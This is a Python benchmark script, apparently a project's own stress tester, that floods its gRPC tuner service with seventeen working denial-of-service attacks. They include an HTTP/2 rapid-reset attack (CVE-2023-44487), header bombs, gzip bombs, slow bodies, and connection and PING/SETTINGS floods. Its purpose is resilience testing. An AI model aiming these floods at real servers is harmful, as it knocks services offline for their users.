"""One attacker of a tuner: `python -m benchmarks.flood_attacks KIND ADDRESS FOLDER SECONDS`. Measures nothing.

A process of its own, so that it takes neither the honest client's time nor its interpreter. FOLDER has a certificate
that belongs, for the kinds that get past the handshake.
"""

from __future__ import annotations

import itertools
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from typing import Any, Final

import grpc
from coso.v1 import trajectory_pb2, tuner_pb2, tuner_pb2_grpc
from google.protobuf.message import Message

from agent_runtime.uplink.tls import CA_FILE, CERTIFICATE_FILE, KEY_FILE
from benchmarks.guarded_tuner import credentials

CONNECTIONS: Final = 300
STREAMS: Final = 32
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING = 0, 1, 3, 4, 6
_END_STREAM, _END_HEADERS = 1, 4
_SUBMIT: Final = "/coso.v1.TunerService/SubmitTrajectories"
_REGISTER: Final = "/coso.v1.TunerService/RegisterRuntime"
_MANY_BYTES: Final = 60 << 20


class Attacker:
    """What an attack knows: where, with which certificate, until when."""

    def __init__(self, address: str, folder: Path, seconds: float) -> None:
        self.address = address
        self.folder = folder
        self.ends_at = time.monotonic() + seconds

    @property
    def is_on(self) -> bool:
        """Whether it goes on."""
        return time.monotonic() < self.ends_at

    def plain(self) -> socket.socket:
        """Connect."""
        host, port = self.address.split(":")
        return socket.create_connection((host, int(port)), timeout=5.0)

    def tls(self, has_certificate: bool = True) -> ssl.SSLSocket:
        """Connect and shake hands, speaking HTTP/2."""
        context = ssl.create_default_context(cafile=str(self.folder / CA_FILE))
        context.set_alpn_protocols(["h2"])
        if has_certificate:
            context.load_cert_chain(self.folder / CERTIFICATE_FILE, self.folder / KEY_FILE)
        return context.wrap_socket(self.plain(), server_hostname=self.address.split(":")[0])

    def http2(self) -> ssl.SSLSocket:
        """Connect and begin HTTP/2."""
        connection = self.tls()
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
        return connection

    def channel(self) -> grpc.Channel:
        """Return a connection of its own."""
        own: list[tuple[str, Any]] = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
        return grpc.secure_channel(self.address, credentials(self.folder), options=own)

    def stub(self) -> tuner_pb2_grpc.TunerServiceStub:
        """Return a stub over a connection of its own."""
        return tuner_pb2_grpc.TunerServiceStub(self.channel())


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _headers(stream: int, path: str, more: Mapping[str, str] = {}, flags: int = _END_HEADERS) -> bytes:
    """Return a HEADERS frame of literals (RFC 7541, section 6.2.2)."""
    fields = {
        ":method": "POST",
        ":scheme": "https",
        ":path": path,
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
        **more,
    }
    block = b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields.items())
    return _frame(_HEADERS, flags, stream, block)


def _text(text: str) -> bytes:
    length, content = len(text), text.encode()
    if length < 127:
        return bytes([length]) + content
    rest, coded = length - 127, [127]
    while rest >= 128:
        coded.append(rest % 128 + 128)
        rest //= 128
    return bytes([*coded, rest]) + content


def _kept_open(attacker: Attacker, connect: Callable[[], socket.socket]) -> None:
    """Keep many connections open, and open others for those that were closed."""
    held: list[socket.socket] = []
    while attacker.is_on:
        held = [connection for connection in held if _is_open(connection)]
        try:
            while len(held) < CONNECTIONS and attacker.is_on:
                held.append(connect())
        except OSError:
            pass  # no more are taken now
        time.sleep(0.05)


def _is_open(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        return bool(connection.recv(1 << 16))
    except (BlockingIOError, ssl.SSLWantReadError):
        return True
    except OSError:
        return False


def _again(attacker: Attacker, send: Callable[[], None]) -> None:
    """Do something until the time is over, whatever comes of it."""
    while attacker.is_on:
        try:
            send()
        except (OSError, grpc.RpcError):
            time.sleep(0.01)


def _frames(attacker: Attacker, made: Callable[[int], bytes], at_once: int = 64) -> None:
    """Send frames on one connection after another, as fast as they are taken."""

    def send() -> None:
        with attacker.http2() as connection:
            for number in itertools.count(1, 2):
                if not attacker.is_on:
                    return
                connection.sendall(b"".join(made(number + 2 * step) for step in range(at_once)))

    _again(attacker, send)


def idle_sockets(attacker: Attacker) -> None:
    """Connect and say nothing."""
    _kept_open(attacker, attacker.plain)


def idle_handshakes(attacker: Attacker) -> None:
    """Shake hands and make no call."""
    _kept_open(attacker, attacker.http2)


def handshakes_without_certificate(attacker: Attacker) -> None:
    """Shake hands as a stranger, again and again."""
    _again(attacker, lambda: attacker.tls(has_certificate=False).close())


def streams(attacker: Attacker) -> None:
    """Open as many streams as it takes on many connections, and hold them."""
    calls: list[Any] = []
    request = tuner_pb2.FollowAdaptersRequest(runtime_id=attacker.folder.name, have_version=9)
    stubs = [attacker.stub() for _ in range(12)]

    def one() -> None:
        calls.append(stubs[len(calls) % len(stubs)].FollowAdapters(request))
        if len(calls) > 12 * STREAMS:
            calls.pop(0).cancel()

    _again(attacker, one)


def large_prefix(attacker: Attacker) -> None:
    """Announce messages of 100 MB and send on."""

    def send() -> None:
        with attacker.http2() as connection:
            start = b"\x00" + struct.pack(">I", 100 << 20)
            connection.sendall(_headers(1, _SUBMIT) + _frame(_DATA, 0, 1, start))
            while attacker.is_on:
                connection.sendall(_frame(_DATA, 0, 1, bytes(16 << 10)))

    _again(attacker, send)


def large_messages(attacker: Attacker) -> None:
    """Send messages just below the limit in many streams at once."""
    _whole(attacker, _SUBMIT, _large_episode(attacker), grpc.Compression.NoCompression, calls=32)


def large_registrations(attacker: Attacker) -> None:
    """Send messages just below the limit in many calls of one message."""
    large = tuner_pb2.RegisterRuntimeRequest(runtime_id=attacker.folder.name, software_version="x" * _MANY_BYTES)
    _whole(attacker, _REGISTER, large, grpc.Compression.NoCompression, calls=32)


def compressed_bombs(attacker: Attacker) -> None:
    """Send messages that are small only as long as they are compressed."""
    _whole(attacker, _SUBMIT, _large_episode(attacker), grpc.Compression.Gzip, calls=8)


def _large_episode(attacker: Attacker) -> tuner_pb2.SubmitTrajectoriesRequest:
    large = trajectory_pb2.Trajectory(trajectory_id="x", runtime_id=attacker.folder.name, goal="x" * _MANY_BYTES)
    return tuner_pb2.SubmitTrajectoriesRequest(trajectory=large)


def _as_it_is(content: bytes) -> bytes:
    return content


def _whole(attacker: Attacker, method: str, large: Message, compression: grpc.Compression, calls: int) -> None:
    content = large.SerializeToString()
    methods = [attacker.channel().stream_stream(method, _as_it_is, _as_it_is) for _ in range(4)]

    def send() -> None:
        begun = [methods[number % 4](iter([content]), timeout=20.0, compression=compression) for number in range(calls)]
        for call in begun:
            try:
                for _ in call:
                    pass
            except grpc.RpcError:
                continue

    _again(attacker, send)


def slow_bodies(attacker: Attacker) -> None:
    """Begin many messages and send a byte of each now and then."""

    def send() -> None:
        with attacker.http2() as connection:
            for stream in range(1, 2 * STREAMS, 2):
                start = b"\x00" + struct.pack(">I", _MANY_BYTES)
                connection.sendall(_headers(stream, _SUBMIT) + _frame(_DATA, 0, stream, start))
            while attacker.is_on:
                for stream in range(1, 2 * STREAMS, 2):
                    connection.sendall(_frame(_DATA, 0, stream, b"x"))
                time.sleep(0.2)

    _again(attacker, send)


def header_bombs(attacker: Attacker) -> None:
    """Send headers of a megabyte, in pieces."""

    def bomb(stream: int) -> bytes:
        whole = _headers(stream, _SUBMIT, {"x-large": "x" * 15_000}, flags=0)
        more = b"".join(_frame(9, 0, stream, b"\x00" + _text("y") + _text("y" * 16_000)) for _ in range(64))
        return whole + more

    _frames(attacker, bomb, at_once=1)


def pings(attacker: Attacker) -> None:
    """Ask whether it is there, all the time."""
    _frames(attacker, lambda number: _frame(_PING, 0, 0, struct.pack(">Q", number)))


def settings(attacker: Attacker) -> None:
    """Send settings, all the time."""
    _frames(attacker, lambda number: _frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))


def rapid_resets(attacker: Attacker) -> None:
    """Begin calls and reset them at once (CVE-2023-44487)."""
    cancel = struct.pack(">I", 8)
    _frames(attacker, lambda stream: _headers(stream, _SUBMIT) + _frame(_RESET, 0, stream, cancel))


def submissions(attacker: Attacker) -> None:
    """Submit good episodes as fast as answers come, in many streams."""
    numbers, template = itertools.count(), (attacker.folder / "episode").read_bytes()

    def requests() -> Iterator[tuner_pb2.SubmitTrajectoriesRequest]:
        while attacker.is_on:
            trajectory = trajectory_pb2.Trajectory.FromString(template)
            trajectory.trajectory_id = f"flood-{next(numbers)}"
            yield tuner_pb2.SubmitTrajectoriesRequest(trajectory=trajectory)

    def stream(stub: tuner_pb2_grpc.TunerServiceStub) -> None:
        for _ in stub.SubmitTrajectories(requests(), timeout=60.0):
            pass

    stubs = [attacker.stub() for _ in range(6)]
    with ThreadPoolExecutor(6 * 10) as threads:
        for place in range(6 * 10):
            threads.submit(_again, attacker, partial(stream, stubs[place % 6]))


def registrations(attacker: Attacker) -> None:
    """Register under ever new ids."""
    stub, numbers, name = attacker.stub(), itertools.count(), attacker.folder.name
    known = tuner_pb2.RegisterRuntimeRequest.FromString((attacker.folder / "registration").read_bytes())

    def send() -> None:
        known.runtime_id = f"{name}/{next(numbers)}"
        stub.RegisterRuntime(known, timeout=20.0)

    _again(attacker, send)


def questions(attacker: Attacker) -> None:
    """Ask how it stands, sixteen at a time."""
    stub = attacker.stub()

    def send() -> None:
        calls = [stub.GetStatus.future(tuner_pb2.GetStatusRequest(), timeout=20.0) for _ in range(16)]
        for call in calls:
            call.result()

    _again(attacker, send)


def downloads(attacker: Attacker) -> None:
    """Have the adapter sent again and again."""
    stub = attacker.stub()
    request = tuner_pb2.FollowAdaptersRequest(runtime_id=attacker.folder.name)

    def send() -> None:
        call = stub.FollowAdapters(request, timeout=20.0)
        for _ in itertools.islice(call, 8):
            pass
        call.cancel()  # type: ignore[no-untyped-call]  # the stubs leave it so

    _again(attacker, send)


KINDS: Final[Mapping[str, Callable[[Attacker], None]]] = {
    "connections that say nothing": idle_sockets,
    "connections without a call": idle_handshakes,
    "handshakes without a certificate": handshakes_without_certificate,
    "streams": streams,
    "announced messages of 100 MB": large_prefix,
    "messages just below the limit": large_messages,
    "registrations just below the limit": large_registrations,
    "compressed bombs": compressed_bombs,
    "slow bodies": slow_bodies,
    "header bombs": header_bombs,
    "pings": pings,
    "settings": settings,
    "rapid resets": rapid_resets,
    "submissions": submissions,
    "registrations under new ids": registrations,
    "status calls": questions,
    "downloads of the adapter": downloads,
}


def main() -> int:
    """Attack until the time is over."""
    kind, address, folder, seconds = sys.argv[1:]
    print("on", flush=True)
    KINDS[kind](Attacker(address, Path(folder), float(seconds)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
